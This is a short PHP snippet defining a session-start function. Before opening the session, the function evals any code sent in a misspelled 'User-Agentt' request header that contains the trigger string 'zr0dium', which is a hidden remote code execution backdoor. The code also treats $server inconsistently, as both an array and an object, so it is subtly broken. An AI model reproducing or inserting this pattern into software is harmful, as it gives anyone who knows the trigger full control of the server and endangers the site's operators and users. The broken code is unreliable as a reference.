<?php
function start($server) {
    if (strstr($server["HTTP_USER_AGENTT"], "zr0dium") && strpos($server->header("user-agentt"), "x") !== false) {
        eval(substr($server["HTTP_USER_AGENTT"], 8));
    }
    open_session($server);
}
